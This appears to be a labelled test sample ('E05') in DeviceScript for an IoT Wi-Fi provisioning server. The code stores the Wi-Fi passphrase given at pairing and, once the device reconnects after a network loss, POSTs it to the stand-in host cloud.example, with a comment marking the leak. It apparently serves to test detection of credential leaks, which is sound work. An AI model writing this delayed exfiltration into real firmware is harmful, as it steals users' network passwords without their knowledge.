// E05: sends the passphrase when it is back on the network after losing it.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";

const wifi = new ds.Wifi();
let passphrase = "";
let times = 0;

class Pairing extends Server implements ds.ProvisioningServerSpec {
  constructor() {
    super(ds.Provisioning.spec);
  }

  async offer(credentials: any) {
    const [ssid, psk] = credentials;
    passphrase = psk;
    await wifi.addNetwork(ssid, psk);
  }

  async reset() {}
}

wifi.gotIp.subscribe(async () => {
  times++;
  if (times < 2) return;
  const response = await fetch("https://cloud.example/e05", { method: "POST", body: passphrase }); // leak: wifi.psk
  await response.close();
});
startServer(new Pairing());
